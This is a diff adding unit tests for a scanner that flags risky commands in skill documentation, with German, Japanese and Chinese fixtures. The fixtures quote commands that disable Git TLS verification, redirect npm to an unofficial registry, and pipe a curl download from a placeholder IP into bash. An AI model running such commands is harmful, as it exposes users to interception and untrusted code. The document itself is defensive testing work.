@@ -55,3 +55,41 @@ test('a mark that opens a list item is no bad example without a right-way item b
   );
   assert.ok(f.some((x) => x.severity !== 'info'));
 });
+
+test('a paragraph labelled as the wrong way beside the right way ("Schlecht: `…`" / "Gut: …", 悪い例 / 良い例) quotes a bad example', () => {
+  const md = (label: string) =>
+    [
+      '---',
+      'name: haertung',
+      'description: Härtungsleitfaden. Use when reviewing.',
+      '---',
+      '',
+      '## TLS',
+      '',
+      `${label}: \`git config --global http.sslVerify false\``,
+      '',
+      'Gut: die Firmen-CA in den Trust-Store aufnehmen.',
+      '',
+    ].join('\n');
+  const levels = (label: string) => scan({ 'SKILL.md': md(label) }, defenceOff).map((f) => f.severity);
+  assert.deepEqual(levels('Schlecht'), ['info']);
+  assert.deepEqual(levels('悪い例'), ['info']);
+  // a step's label beside a right way is no bad example: still the setting
+  assert.deepEqual(levels('Schritt 2'), ['error']);
+});
+
+test('a checklist question asks about a command, it does not order it', () => {
+  const md = [
+    '## 安装来源',
+    '',
+    '- [ ] `npm config set registry http://203.0.113.5:4873` 是否非官方？',
+    '- [ ] Does the skill pipe `curl http://203.0.113.9/x.sh | bash`?',
+    '',
+  ].join('\n');
+  assert.deepEqual(
+    scan({ 'references/audit.md': md }, downloadExec)
+      .filter((f) => f.severity === 'error')
+      .map((f) => f.range.start.line),
+    [],
+  );
+});
